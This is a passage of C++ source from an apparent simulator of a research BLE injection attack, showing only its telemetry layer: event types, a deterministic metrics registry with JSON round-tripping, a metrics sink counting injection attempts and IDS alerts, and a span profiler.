    std::string_view device;
    std::uint16_t event_counter = 0;
    std::uint8_t channel = 0;
    Duration widening = 0;  ///< Eq. 4 widening applied on each side
    Duration window = 0;    ///< transmit-window length beyond the widening
    bool missed = false;    ///< true: the window expired with no anchor heard
};

/// One injection attempt with the attacker's Eq. 7 verdict and — when the
/// harness has god-view ground truth — whether the slave really accepted it.
struct InjectionAttempt {
    TimePoint time = 0;
    int attempt = 0;  ///< 1-based
    std::uint16_t event_counter = 0;
    std::uint8_t channel = 0;
    bool heuristic_success = false;   ///< Eq. 7 verdict
    bool ground_truth_known = false;  ///< god view available for this attempt
    bool accepted_by_slave = false;   ///< ground truth (valid iff known)
    /// Full attacker-side report; valid only during dispatch.
    const injectable::AttemptReport* report = nullptr;
};

/// An intrusion-detection alert (paper §VIII, solution 3).
struct IdsAlert {
    TimePoint time = 0;
    std::uint8_t type = 0;  ///< ids::AlertType numeric value
    std::string_view type_name;
    std::uint16_t event_counter = 0;
    std::string_view detail;
};

/// A phase transition of one experiment trial (setup, establish, encrypt,
/// sync, inject, done).  `seed` keys the trial for replay.
struct TrialPhase {
    TimePoint time = 0;
    std::uint64_t seed = 0;
    std::string_view phase;
    std::string_view detail;
};

using Event = std::variant<TxStart, RxDecision, ConnEvent, WindowWiden, InjectionAttempt,
                           IdsAlert, TrialPhase>;

/// Short stable tag for each alternative ("tx", "rx", "conn", "widen",
/// "attempt", "ids", "phase") — used by the JSONL sink and by filters.
[[nodiscard]] const char* event_kind_name(const Event& event) noexcept;

}  // namespace ble::obs
