#include "obs/metrics.hpp"

#include <algorithm>
#include <cmath>
#include <cstdio>

#include "common/json.hpp"
#include "obs/sinks.hpp"

namespace ble::obs {

void HistogramSnapshot::record(std::uint64_t value) noexcept {
    if (count == 0 || value < min) min = value;
    if (count == 0 || value > max) max = value;
    ++count;
    sum += value;
    ++buckets[static_cast<std::size_t>(histogram_bucket_of(value))];
}

void HistogramSnapshot::merge(const HistogramSnapshot& other) noexcept {
    if (other.count == 0) return;
    if (count == 0 || other.min < min) min = other.min;
    if (count == 0 || other.max > max) max = other.max;
    count += other.count;
    sum += other.sum;
    for (std::size_t b = 0; b < buckets.size(); ++b) buckets[b] += other.buckets[b];
}

void GaugeSnapshot::record(std::int64_t value) noexcept {
    if (samples == 0 || value < min) min = value;
    if (samples == 0 || value > max) max = value;
    last = value;
    ++samples;
}

void GaugeSnapshot::merge(const GaugeSnapshot& other) noexcept {
    if (other.samples == 0) return;
    if (samples == 0 || other.min < min) min = other.min;
    if (samples == 0 || other.max > max) max = other.max;
    last = other.last;
    samples += other.samples;
}

void MetricsSnapshot::merge(const MetricsSnapshot& other) {
    for (const auto& [name, value] : other.counters) counters[name] += value;
    for (const auto& [name, gauge] : other.gauges) gauges[name].merge(gauge);
    for (const auto& [name, histogram] : other.histograms) histograms[name].merge(histogram);
}

namespace {

void append_key(std::string& out, std::string_view name, bool& first) {
    if (!first) out += ',';
    first = false;
    out += '"';
    append_json_escaped(out, name);
    out += "\":";
}

}  // namespace

std::string MetricsSnapshot::to_json() const {
    std::string out;
    out.reserve(256);
    out += "{\"counters\":{";
    bool first = true;
    for (const auto& [name, value] : counters) {
        append_key(out, name, first);
        out += std::to_string(value);
    }
    out += "},\"gauges\":{";
    first = true;
    for (const auto& [name, g] : gauges) {
        append_key(out, name, first);
        out += "{\"n\":" + std::to_string(g.samples) + ",\"last\":" + std::to_string(g.last) +
               ",\"min\":" + std::to_string(g.min) + ",\"max\":" + std::to_string(g.max) + "}";
    }
    out += "},\"histograms\":{";
    first = true;
    for (const auto& [name, h] : histograms) {
        append_key(out, name, first);
        out += "{\"n\":" + std::to_string(h.count) + ",\"sum\":" + std::to_string(h.sum) +
               ",\"min\":" + std::to_string(h.min) + ",\"max\":" + std::to_string(h.max) +
               ",\"buckets\":[";
        bool first_bucket = true;
        for (std::size_t b = 0; b < h.buckets.size(); ++b) {
            if (h.buckets[b] == 0) continue;
            if (!first_bucket) out += ',';
            first_bucket = false;
            out += '[' + std::to_string(b) + ',' + std::to_string(h.buckets[b]) + ']';
        }
        out += "]}";
    }
    out += "}}";
    return out;
}

bool metrics_snapshot_from_json(const json::Value& value, MetricsSnapshot& out,
                                std::string* error) {
    auto fail = [&](std::string message) {
        if (error != nullptr) *error = std::move(message);
        return false;
    };
    out = MetricsSnapshot{};
    if (!value.is_object()) return fail("metrics: not an object");
    if (const json::Value* counters = value.find("counters"); counters != nullptr) {
        if (!counters->is_object()) return fail("metrics: \"counters\" is not an object");
        for (const auto& [name, cell] : counters->object) out.counters[name] = cell.as_u64();
    }
    if (const json::Value* gauges = value.find("gauges"); gauges != nullptr) {
        if (!gauges->is_object()) return fail("metrics: \"gauges\" is not an object");
        for (const auto& [name, cell] : gauges->object) {
            if (!cell.is_object()) return fail("metrics: gauge \"" + name + "\" is not an object");
            GaugeSnapshot g;
            g.samples = cell.u64("n");
            g.last = cell.i64("last");
            g.min = cell.i64("min");
            g.max = cell.i64("max");
            out.gauges[name] = g;
        }
    }
    if (const json::Value* histograms = value.find("histograms"); histograms != nullptr) {
        if (!histograms->is_object()) return fail("metrics: \"histograms\" is not an object");
        for (const auto& [name, cell] : histograms->object) {
            if (!cell.is_object()) {
                return fail("metrics: histogram \"" + name + "\" is not an object");
            }
            HistogramSnapshot h;
            h.count = cell.u64("n");
            h.sum = cell.u64("sum");
            h.min = cell.u64("min");
            h.max = cell.u64("max");
            if (const json::Value* buckets = cell.find("buckets"); buckets != nullptr) {
                if (!buckets->is_array()) {
                    return fail("metrics: histogram \"" + name + "\" buckets is not an array");
                }
                for (const json::Value& pair : buckets->array) {
                    if (!pair.is_array() || pair.array.size() != 2) {
                        return fail("metrics: histogram \"" + name + "\" bucket pair malformed");
                    }
                    const std::uint64_t bucket = pair.array[0].as_u64();
                    if (bucket >= static_cast<std::uint64_t>(kHistogramBuckets)) {
                        return fail("metrics: histogram \"" + name + "\" bucket out of range");
                    }
                    h.buckets[static_cast<std::size_t>(bucket)] = pair.array[1].as_u64();
                }
            }
            out.histograms[name] = h;
        }
    }
    return true;
}

MetricsSnapshot MetricsRegistry::snapshot() const {
    MetricsSnapshot snap;
    for (const auto& [name, counter] : counters_) snap.counters.emplace(name, counter.value());
    for (const auto& [name, gauge] : gauges_) snap.gauges.emplace(name, gauge);
    for (const auto& [name, histogram] : histograms_) snap.histograms.emplace(name, histogram);
    return snap;
}

void MetricsRegistry::reset() noexcept {
    for (auto& [name, counter] : counters_) counter = Counter{};
    for (auto& [name, gauge] : gauges_) gauge = Gauge{};
    for (auto& [name, histogram] : histograms_) histogram = Histogram{};
}

void print_metrics_summary(const MetricsSnapshot& snapshot, const std::string& label) {
    std::printf("metrics[%s]:\n", label.c_str());
    for (const auto& [name, value] : snapshot.counters) {
        std::printf("  %-28s %10llu\n", name.c_str(),
                    static_cast<unsigned long long>(value));
    }
    for (const auto& [name, g] : snapshot.gauges) {
        std::printf("  %-28s last=%lld min=%lld max=%lld (n=%llu)\n", name.c_str(),
                    static_cast<long long>(g.last), static_cast<long long>(g.min),
                    static_cast<long long>(g.max), static_cast<unsigned long long>(g.samples));
    }
    for (const auto& [name, h] : snapshot.histograms) {
        std::printf("  %-28s n=%llu mean=%.1f min=%llu max=%llu\n", name.c_str(),
                    static_cast<unsigned long long>(h.count), h.mean(),
                    static_cast<unsigned long long>(h.min),
                    static_cast<unsigned long long>(h.max));
    }
}

MetricsSink::MetricsSink(MetricsRegistry& registry, MetricsSinkParams params)
    : registry_(registry),
      params_(params),
      events_total_(registry.counter("events_total")),
      tx_frames_(registry.counter("tx_frames")),
      rx_delivered_(registry.counter("rx_delivered")),
      rx_corrupted_(registry.counter("rx_corrupted")),
      rx_lost_sync_(registry.counter("rx_lost_sync")),
      conn_opened_(registry.counter("conn_opened")),
      conn_events_(registry.counter("conn_events")),
      conn_closed_(registry.counter("conn_closed")),
      anchors_missed_(registry.counter("anchors_missed")),
      windows_opened_(registry.counter("windows_opened")),
      window_misses_(registry.counter("window_misses")),
      injection_attempts_(registry.counter("injection_attempts")),
      injection_wins_(registry.counter("injection_wins")),
      injection_accepted_(registry.counter("injection_accepted")),
      ids_alerts_(registry.counter("ids_alerts")),
      tx_airtime_ns_(registry.histogram("tx_airtime_ns")),
      capture_margin_db_(registry.histogram("capture_margin_db")),
      window_width_ns_(registry.histogram("window_width_ns")),
      inter_attempt_gap_ns_(registry.histogram("inter_attempt_gap_ns")),
      attempts_per_connection_(registry.histogram("attempts_per_connection")),
      last_attempt_(registry.gauge("last_attempt")) {}

void MetricsSink::note_time(TimePoint t) noexcept {
    if (!any_event_) {
        first_time_ = t;
        any_event_ = true;
    }
    last_time_ = t;
}

void MetricsSink::on_event(const Event& event) {
    events_total_.add();
    struct Visitor {
        MetricsSink& self;

        void operator()(const TxStart& e) const {
            self.note_time(e.time);
            self.tx_frames_.add();
            self.tx_airtime_ns_.record(
                static_cast<std::uint64_t>(std::max<Duration>(e.duration, 0)));
        }
        void operator()(const RxDecision& e) const {
            self.note_time(e.time);
            switch (e.verdict) {
                case RxVerdict::kDelivered: self.rx_delivered_.add(); break;
                case RxVerdict::kDeliveredCorrupted:
                    self.rx_delivered_.add();
                    self.rx_corrupted_.add();
                    break;
                case RxVerdict::kLostSync: self.rx_lost_sync_.add(); break;
            }
            if (e.verdict != RxVerdict::kLostSync) {
                // Power margin over the sensitivity floor, whole dB, clamped
                // at zero (a capture below the floor never reaches us).
                const double margin = e.rssi_dbm - self.params_.sensitivity_dbm;
                const double rounded = std::floor(margin + 0.5);
                self.capture_margin_db_.record(
                    rounded <= 0.0 ? 0u : static_cast<std::uint64_t>(rounded));
            }
        }
        void operator()(const ConnEvent& e) const {
            self.note_time(e.time);
            switch (e.kind) {
                case ConnEvent::Kind::kOpened: self.conn_opened_.add(); break;
                case ConnEvent::Kind::kEventClosed:
                    self.conn_events_.add();
                    if (!e.anchor_observed) self.anchors_missed_.add();
                    break;
                case ConnEvent::Kind::kClosed: self.conn_closed_.add(); break;
            }
        }
        void operator()(const WindowWiden& e) const {
            self.note_time(e.time);
            if (e.missed) {
                self.window_misses_.add();
            } else {
                self.windows_opened_.add();
            }
            // Full receive-window width: widened on both sides of the anchor
            // (Eq. 4) plus the transmit window itself (Eq. 5).
            const Duration width = 2 * e.widening + e.window;
            self.window_width_ns_.record(static_cast<std::uint64_t>(std::max<Duration>(width, 0)));
        }
        void operator()(const InjectionAttempt& e) const {
            self.note_time(e.time);
            self.injection_attempts_.add();
            if (e.heuristic_success) self.injection_wins_.add();
            if (e.ground_truth_known && e.accepted_by_slave) self.injection_accepted_.add();
            self.last_attempt_.record(e.attempt);
            ++self.trial_attempts_;
            if (self.have_attempt_time_ && e.time >= self.last_attempt_time_) {
                self.inter_attempt_gap_ns_.record(
                    static_cast<std::uint64_t>(e.time - self.last_attempt_time_));
            }
            self.have_attempt_time_ = true;
            self.last_attempt_time_ = e.time;
        }
        void operator()(const IdsAlert& e) const {
            self.note_time(e.time);
            self.ids_alerts_.add();
        }
        void operator()(const TrialPhase& e) const { self.note_time(e.time); }
    };
    std::visit(Visitor{*this}, event);
}

void MetricsSink::finalize() {
    if (finalized_) return;
    finalized_ = true;
    attempts_per_connection_.record(trial_attempts_);
    if (any_event_) {
        registry_.gauge("trial_span_ns").record(last_time_ - first_time_);
    }
}

}  // namespace ble::obs
