// MetricsRegistry: deterministic, mergeable telemetry over the event stream.
//
// The paper's evaluation (§VII, Fig. 9) is statistics over observed
// Link-Layer events — attempt counts, capture outcomes, widened windows.  The
// registry turns the raw obs::EventBus stream into quantitative series:
//
//  * Counter    — monotone event count;
//  * Gauge      — last/min/max of a signed sample stream;
//  * Histogram  — fixed-bucket log2 histogram of unsigned samples (bucket b
//                 holds values with bit_width == b, so bucket 0 is {0},
//                 bucket 1 is {1}, bucket 2 is {2,3}, ... up to bucket 64).
//
// Determinism contract: a registry is single-threaded (it belongs to one
// trial's world, like the bus), every cell is plain integer arithmetic, and
// snapshots merge with commutative/associative ops for counters and
// histograms.  Gauges keep a `last` value, so TrialRunner harnesses merge
// snapshots *in trial-index order*; with that order fixed, serial and
// parallel campaigns produce bit-identical merged snapshots — the same
// store-by-index trick the runner uses for results.
#pragma once

#include <array>
#include <bit>
#include <cstdint>
#include <map>
#include <string>
#include <string_view>

#include "obs/bus.hpp"

namespace ble::json {
class Value;
}

namespace ble::obs {

/// Number of log2 buckets: bit_width of a uint64 is 0..64.
inline constexpr int kHistogramBuckets = 65;

/// Bucket index for a sample (== std::bit_width).
[[nodiscard]] constexpr int histogram_bucket_of(std::uint64_t value) noexcept {
    return std::bit_width(value);
}
/// Inclusive lower bound of a bucket (0, 1, 2, 4, 8, ...).
[[nodiscard]] constexpr std::uint64_t histogram_bucket_floor(int bucket) noexcept {
    return bucket <= 0 ? 0 : std::uint64_t{1} << (bucket - 1);
}

struct HistogramSnapshot {
    std::uint64_t count = 0;
    std::uint64_t sum = 0;
    std::uint64_t min = 0;  ///< valid iff count > 0
    std::uint64_t max = 0;  ///< valid iff count > 0
    std::array<std::uint64_t, kHistogramBuckets> buckets{};

    void record(std::uint64_t value) noexcept;
    /// Commutative: merging A into B equals merging B into A.
    void merge(const HistogramSnapshot& other) noexcept;
    [[nodiscard]] double mean() const noexcept {
        return count == 0 ? 0.0 : static_cast<double>(sum) / static_cast<double>(count);
    }
    friend bool operator==(const HistogramSnapshot&, const HistogramSnapshot&) = default;
};

struct GaugeSnapshot {
    std::uint64_t samples = 0;
    std::int64_t last = 0;  ///< valid iff samples > 0
    std::int64_t min = 0;
    std::int64_t max = 0;

    void record(std::int64_t value) noexcept;
    /// NOT commutative (`last` takes the right-hand side): merge in a fixed
    /// order (trial index) for deterministic aggregates.
    void merge(const GaugeSnapshot& other) noexcept;
    friend bool operator==(const GaugeSnapshot&, const GaugeSnapshot&) = default;
};

/// The full registry state: plain values in name-sorted maps, so two equal
/// snapshots serialize to byte-identical JSON.
struct MetricsSnapshot {
    std::map<std::string, std::uint64_t> counters;
    std::map<std::string, GaugeSnapshot> gauges;
    std::map<std::string, HistogramSnapshot> histograms;

    /// Merges `other` into this snapshot (see GaugeSnapshot::merge for the
    /// ordering caveat).
    void merge(const MetricsSnapshot& other);
    [[nodiscard]] bool empty() const noexcept {
        return counters.empty() && gauges.empty() && histograms.empty();
    }
    /// Compact one-line JSON object; histogram buckets are sparse
    /// [bucket, count] pairs.  Deterministic: sorted keys, integer fields.
    [[nodiscard]] std::string to_json() const;
    friend bool operator==(const MetricsSnapshot&, const MetricsSnapshot&) = default;
};

/// Named metric cells.  Handles returned by counter()/gauge()/histogram()
/// stay valid for the registry's lifetime (map nodes are stable), so sinks
/// resolve names once and update through the handle on the hot path.
class MetricsRegistry {
public:
    class Counter {
    public:
        void add(std::uint64_t n = 1) noexcept { value_ += n; }
        [[nodiscard]] std::uint64_t value() const noexcept { return value_; }

    private:
        std::uint64_t value_ = 0;
    };
    using Gauge = GaugeSnapshot;
    using Histogram = HistogramSnapshot;

    [[nodiscard]] Counter& counter(std::string_view name) { return counters_[std::string(name)]; }
    [[nodiscard]] Gauge& gauge(std::string_view name) { return gauges_[std::string(name)]; }
    [[nodiscard]] Histogram& histogram(std::string_view name) {
        return histograms_[std::string(name)];
    }

    [[nodiscard]] MetricsSnapshot snapshot() const;
    void reset() noexcept;

private:
    std::map<std::string, Counter, std::less<>> counters_;
    std::map<std::string, Gauge, std::less<>> gauges_;
    std::map<std::string, Histogram, std::less<>> histograms_;
};

/// Prints a short human-readable digest (one line per metric) to stdout.
void print_metrics_summary(const MetricsSnapshot& snapshot, const std::string& label);

/// Parses the MetricsSnapshot::to_json() format back into a snapshot — the
/// inverse the campaign wire protocol relies on (shard partials travel as
/// JSON and must merge bit-identically).  Returns false and sets *error on a
/// malformed document; a missing top-level section is treated as empty.
bool metrics_snapshot_from_json(const json::Value& value, MetricsSnapshot& out,
                                std::string* error = nullptr);

struct MetricsSinkParams {
    /// Receiver sensitivity used for the per-capture power-margin histogram
    /// (sim::MediumParams default).
    double sensitivity_dbm = -94.0;
};

/// EventSink that feeds the paper's §VII telemetry into a MetricsRegistry:
/// event counters per kind, the window-width distribution (Eq. 4/5), the
/// inter-attempt latency, the per-capture power margin in dB over the
/// sensitivity floor, and — via finalize() — per-trial aggregates such as
/// injection attempts per connection.
class MetricsSink : public EventSink {
public:
    explicit MetricsSink(MetricsRegistry& registry, MetricsSinkParams params = {});

    void on_event(const Event& event) override;
    [[nodiscard]] std::string_view prof_name() const noexcept override { return "obs.sink.metrics"; }

    /// Records the per-trial aggregates (attempts per connection, trial
    /// span).  Call once, after the trial's last event.
    void finalize();

    [[nodiscard]] MetricsRegistry& registry() noexcept { return registry_; }

private:
    void note_time(TimePoint t) noexcept;

    MetricsRegistry& registry_;
    MetricsSinkParams params_;

    // Resolved handles (hot path updates only).
    MetricsRegistry::Counter& events_total_;
    MetricsRegistry::Counter& tx_frames_;
    MetricsRegistry::Counter& rx_delivered_;
    MetricsRegistry::Counter& rx_corrupted_;
    MetricsRegistry::Counter& rx_lost_sync_;
    MetricsRegistry::Counter& conn_opened_;
    MetricsRegistry::Counter& conn_events_;
    MetricsRegistry::Counter& conn_closed_;
    MetricsRegistry::Counter& anchors_missed_;
    MetricsRegistry::Counter& windows_opened_;
    MetricsRegistry::Counter& window_misses_;
    MetricsRegistry::Counter& injection_attempts_;
    MetricsRegistry::Counter& injection_wins_;
    MetricsRegistry::Counter& injection_accepted_;
    MetricsRegistry::Counter& ids_alerts_;
    MetricsRegistry::Histogram& tx_airtime_ns_;
    MetricsRegistry::Histogram& capture_margin_db_;
    MetricsRegistry::Histogram& window_width_ns_;
    MetricsRegistry::Histogram& inter_attempt_gap_ns_;
    MetricsRegistry::Histogram& attempts_per_connection_;
    MetricsRegistry::Gauge& last_attempt_;

    bool any_event_ = false;
    TimePoint first_time_ = 0;
    TimePoint last_time_ = 0;
    bool have_attempt_time_ = false;
    TimePoint last_attempt_time_ = 0;
    std::uint64_t trial_attempts_ = 0;
    bool finalized_ = false;
};

}  // namespace ble::obs
