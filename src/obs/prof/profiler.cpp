#include "obs/prof/profiler.hpp"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cinttypes>
#include <cstdio>
#include <map>
#include <mutex>

#include "obs/metrics.hpp"
#include "obs/sinks.hpp"

namespace ble::obs::prof {

namespace detail {

/// The profiler's only wall-clock read.  Wall numbers are quarantined by
/// design: they feed wall_summary() for humans and never reach the metrics
/// registry, JSON records or any replayed/diffed artifact.
std::uint64_t wall_now_ns() noexcept {
    // Output is human-facing only and excluded from every deterministic artifact.
    // injectable-lint: allow(D2) -- opt-in wall-clock span timing
    const auto now = std::chrono::steady_clock::now().time_since_epoch();
    return static_cast<std::uint64_t>(
        std::chrono::duration_cast<std::chrono::nanoseconds>(now).count());
}

}  // namespace detail

namespace {

/// Distinguishes profiler instances for the site epoch check even when a
/// freed instance's heap slot is reused by the next trial's profiler.  The
/// value orders nothing and never reaches any output.
std::atomic<std::uint64_t> g_profiler_epoch{0};

/// Process-wide name→id table.  Interning is cold (once per call site per
/// process for SpanSite/GaugeSite users; per call only on the string_view
/// slow path), so a mutex is fine.  Id assignment order depends on which
/// trial thread touches a name first — deterministic outputs must therefore
/// key and sort by name, never by id, which every exporter below does.
class NameTable {
public:
    int intern(std::string_view name) {
        const std::lock_guard<std::mutex> lock(mu_);
        if (auto it = ids_.find(name); it != ids_.end()) return it->second;
        const int id = static_cast<int>(names_.size());
        names_.emplace_back(name);
        ids_.emplace(std::string(name), id);
        return id;
    }
    [[nodiscard]] std::vector<std::string> snapshot() const {
        const std::lock_guard<std::mutex> lock(mu_);
        return names_;
    }

private:
    mutable std::mutex mu_;  // guards: ids_, names_
    std::map<std::string, int, std::less<>> ids_;
    std::vector<std::string> names_;  // id -> name
};

NameTable& span_table() {
    static NameTable table;
    return table;
}

NameTable& gauge_table() {
    static NameTable table;
    return table;
}

}  // namespace

int Profiler::intern_span_name(std::string_view name) { return span_table().intern(name); }
int Profiler::intern_gauge_name(std::string_view name) { return gauge_table().intern(name); }
std::vector<std::string> Profiler::span_name_snapshot() { return span_table().snapshot(); }
std::vector<std::string> Profiler::gauge_name_snapshot() { return gauge_table().snapshot(); }

Profiler::Profiler(ProfilerParams params)
    : params_(params), epoch_(g_profiler_epoch.fetch_add(1, std::memory_order_relaxed) + 1) {
    nodes_.reserve(64);
    buckets_.reserve(64);
    nodes_.push_back(PathNode{});  // synthetic root, span_id -1
    buckets_.push_back(BucketArray{});
    if (params_.chrome_trace) {
        chrome_.reserve(std::min<std::size_t>(params_.max_chrome_events, 4096));
    }
}

int Profiler::add_node(int id) {
    const int node_index = static_cast<int>(nodes_.size());
    nodes_[static_cast<std::size_t>(current_node_)].children.emplace_back(id, node_index);
    nodes_.push_back(PathNode{});
    nodes_.back().span_id = id;
    nodes_.back().parent = current_node_;
    buckets_.push_back(BucketArray{});
    return node_index;
}

void Profiler::record_chrome(int span_id, TimePoint start, std::uint64_t sim_ns) {
    if (chrome_.size() < params_.max_chrome_events) {
        ChromeEvent ev;
        ev.span_id = span_id;
        ev.depth = depth_;  // already decremented: depth of the popped span's parent
        ev.start = start;
        ev.dur = static_cast<Duration>(sim_ns);
        chrome_.push_back(ev);
    } else {
        ++chrome_dropped_;
    }
}

void Profiler::sample_gauge(std::string_view name, std::int64_t value) {
    const int id = intern_gauge_name(name);
    if (gauge_cells_.size() <= static_cast<std::size_t>(id)) {
        gauge_cells_.resize(static_cast<std::size_t>(id) + 1);
    }
    gauge_sample(gauge_cells_[static_cast<std::size_t>(id)], value);
}

void Profiler::stack_path(int node, const std::vector<std::string>& names,
                          std::string& out) const {
    const PathNode& n = nodes_[static_cast<std::size_t>(node)];
    if (n.parent > 0) {
        stack_path(n.parent, names, out);
        out.push_back(';');
    }
    out += names[static_cast<std::size_t>(n.span_id)];
}

std::vector<Profiler::StackLine> Profiler::collapsed_stacks() const {
    const std::vector<std::string> names = span_name_snapshot();
    std::vector<StackLine> lines;
    for (std::size_t i = 1; i < nodes_.size(); ++i) {
        const PathNode& node = nodes_[i];
        if (node.count == 0) continue;  // span still open or never closed here
        StackLine line;
        stack_path(static_cast<int>(i), names, line.stack);
        line.count = node.count;
        line.sim_us = node.sim_ns / 1000;
        lines.push_back(std::move(line));
    }
    std::sort(lines.begin(), lines.end(),
              [](const StackLine& a, const StackLine& b) { return a.stack < b.stack; });
    return lines;
}

std::vector<Profiler::SpanAgg> Profiler::aggregate_spans(std::size_t size) const {
    std::vector<SpanAgg> aggs(size);
    for (std::size_t i = 1; i < nodes_.size(); ++i) {
        const PathNode& node = nodes_[i];
        if (node.count == 0) continue;
        SpanAgg& agg = aggs[static_cast<std::size_t>(node.span_id)];
        if (agg.count == 0) {
            agg.min_us = node.min_us;
            agg.max_us = node.max_us;
        } else {
            agg.min_us = node.min_us < agg.min_us ? node.min_us : agg.min_us;
            agg.max_us = node.max_us > agg.max_us ? node.max_us : agg.max_us;
        }
        agg.count += node.count;
        agg.sim_ns += node.sim_ns;
        agg.wall_ns += node.wall_ns;
        agg.sum_us += node.sum_us;
        const BucketArray& node_buckets = buckets_[i];
        for (std::size_t b = 0; b < node_buckets.size(); ++b) agg.buckets[b] += node_buckets[b];
    }
    return aggs;
}

std::vector<Profiler::SpanTotal> Profiler::span_totals() const {
    // Ordered by this profiler's first use of each span (= first tree node
    // that references it), independent of the global id assignment order.
    const std::vector<std::string> names = span_name_snapshot();
    std::vector<int> slot(names.size(), -1);
    std::vector<SpanTotal> totals;
    for (std::size_t i = 1; i < nodes_.size(); ++i) {
        const PathNode& node = nodes_[i];
        int& s = slot[static_cast<std::size_t>(node.span_id)];
        if (s < 0) {
            s = static_cast<int>(totals.size());
            SpanTotal t;
            t.name = names[static_cast<std::size_t>(node.span_id)];
            totals.push_back(std::move(t));
        }
        SpanTotal& t = totals[static_cast<std::size_t>(s)];
        t.count += node.count;
        t.sim_ns += node.sim_ns;
        t.wall_ns += node.wall_ns;
    }
    return totals;
}

void Profiler::export_metrics(MetricsRegistry& registry) const {
    const std::vector<std::string> names = span_name_snapshot();
    const std::vector<SpanAgg> aggs = aggregate_spans(names.size());
    for (std::size_t id = 0; id < aggs.size(); ++id) {
        const SpanAgg& agg = aggs[id];
        if (agg.count == 0) continue;
        const std::string& name = names[id];
        registry.counter("prof.span." + name + ".count").add(agg.count);
        registry.counter("prof.span." + name + ".sim_us").add(agg.sim_ns / 1000);
        HistogramSnapshot hist;
        hist.count = agg.count;
        hist.sum = agg.sum_us;
        hist.min = agg.min_us;
        hist.max = agg.max_us;
        std::copy(agg.buckets.begin(), agg.buckets.end(), hist.buckets.begin());
        registry.histogram("prof.span." + name + ".sim_us").merge(hist);
    }
    for (const StackLine& line : collapsed_stacks()) {
        registry.counter("prof.stack." + line.stack + ".count").add(line.count);
        registry.counter("prof.stack." + line.stack + ".sim_us").add(line.sim_us);
    }
    const std::vector<std::string> gauge_names = gauge_name_snapshot();
    for (std::size_t id = 0; id < gauge_cells_.size(); ++id) {
        const GaugeCell& cell = gauge_cells_[id];
        if (cell.samples == 0) continue;
        GaugeSnapshot g;
        g.samples = cell.samples;
        g.last = cell.last;
        g.min = cell.min;
        g.max = cell.max;
        registry.gauge("prof.gauge." + gauge_names[id]).merge(g);
    }
    if (chrome_dropped_ > 0) {
        registry.counter("prof.chrome_events_dropped").add(chrome_dropped_);
    }
}

std::string Profiler::chrome_trace_json() const {
    const std::vector<std::string> names = span_name_snapshot();
    std::string out = "{\"traceEvents\":[";
    char buf[128];
    bool first = true;
    for (const ChromeEvent& ev : chrome_) {
        if (!first) out.push_back(',');
        first = false;
        out += "{\"name\":\"";
        append_json_escaped(out, names[static_cast<std::size_t>(ev.span_id)]);
        out += '"';
        // Sim-clock ns rendered as fractional µs with fixed 3 decimals: pure
        // integer formatting, so the output is byte-deterministic.
        std::snprintf(buf, sizeof(buf),
                      ",\"cat\":\"prof\",\"ph\":\"X\",\"ts\":%" PRId64 ".%03" PRId64
                      ",\"dur\":%" PRId64 ".%03" PRId64 ",\"pid\":1,\"tid\":%d}",
                      static_cast<std::int64_t>(ev.start / 1000),
                      static_cast<std::int64_t>(ev.start % 1000),
                      static_cast<std::int64_t>(ev.dur / 1000),
                      static_cast<std::int64_t>(ev.dur % 1000), ev.depth);
        out += buf;
    }
    out += "]}";
    return out;
}

bool Profiler::write_chrome_trace(const std::string& path) const {
    std::FILE* f = std::fopen(path.c_str(), "wb");
    if (f == nullptr) return false;
    const std::string json = chrome_trace_json();
    const bool ok = std::fwrite(json.data(), 1, json.size(), f) == json.size();
    return std::fclose(f) == 0 && ok;
}

std::string Profiler::wall_summary() const {
    if (!params_.wall_clock) return {};
    std::vector<SpanTotal> totals = span_totals();
    std::erase_if(totals, [](const SpanTotal& t) { return t.count == 0; });
    std::sort(totals.begin(), totals.end(), [](const SpanTotal& a, const SpanTotal& b) {
        return a.wall_ns != b.wall_ns ? a.wall_ns > b.wall_ns : a.name < b.name;
    });
    std::uint64_t total = 0;
    for (const SpanTotal& t : totals) total += t.wall_ns;
    std::string out = "wall-clock span profile (non-deterministic):\n";
    char buf[192];
    for (const SpanTotal& t : totals) {
        const double pct =
            total == 0 ? 0.0 : 100.0 * static_cast<double>(t.wall_ns) / static_cast<double>(total);
        std::snprintf(buf, sizeof(buf), "  %-28s %10" PRIu64 " calls %12.3f ms %6.2f%%\n",
                      t.name.c_str(), t.count, static_cast<double>(t.wall_ns) / 1e6, pct);
        out += buf;
    }
    return out;
}

}  // namespace ble::obs::prof
