// Deterministic self-profiler: RAII scoped spans with dual clocks.
//
// A Profiler is strictly per-trial and single-threaded, exactly like the
// EventBus it observes alongside: TrialRunner workers each install their own
// instance for the duration of one trial (prof::Install), so there is no
// shared mutable state and no locking on the hot path.  Two clocks feed it:
//
//  * Sim time — the scheduler publishes its clock into a thread-local cell on
//    every dispatch (prof::set_sim_now), and spans attribute simulated
//    nanoseconds from it (plus explicit add_sim() claims such as frame
//    airtime).  Sim-time statistics are a pure function of (config, seed):
//    exported into MetricsRegistry as prof.* series and merged in trial-index
//    order, they are bit-identical for any BENCH_JOBS.
//  * Wall time — optional (ProfilerParams::wall_clock), explicitly
//    non-deterministic, and quarantined: wall numbers never reach
//    MetricsRegistry or INJECTABLE_JSON, only the human-facing wall_summary()
//    string.  The single steady_clock read lives in profiler.cpp behind an
//    audited injectable-lint allow(D2).
//
// Span instances form a collapsed-stack tree (node children keyed by span
// id).  Names are interned once per process into a global id table so a fresh
// per-trial profiler pays no re-interning; because the global assignment
// order is scheduling-dependent, every export keys and sorts by *name* and
// per-profiler orderings derive from node-creation order, never from ids.
// All statistics accumulate on the tree node itself (one cache line of hot
// fields, histograms in a parallel array), and per-span flat totals are
// aggregated at export time — the hot path never touches a second table.
// Exports:
//  * export_metrics(): prof.span.* counters/histograms, prof.stack.* counters
//    (semicolon-joined paths — the flamegraph input), prof.gauge.* gauges;
//  * chrome_trace_json(): nested "X" duration events on the sim clock for
//    INJECTABLE_CHROME_TRACE_DIR, byte-deterministic;
//  * wall_summary(): non-deterministic per-span wall totals for stderr.
//
// Instrumented code uses prof::Span unconditionally; when no profiler is
// installed the constructor is a thread-local load and a null test.
#pragma once

#include <array>
#include <bit>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "common/time.hpp"

namespace ble::obs {
class MetricsRegistry;
}  // namespace ble::obs

namespace ble::obs::prof {

namespace detail {
/// The profiler's only wall-clock read; defined in profiler.cpp behind the
/// audited lint allow(D2).  Wall numbers never reach deterministic artifacts.
[[nodiscard]] std::uint64_t wall_now_ns() noexcept;
}  // namespace detail

struct ProfilerParams {
    /// Enables wall-clock span timing (non-deterministic; summary only).
    bool wall_clock = false;
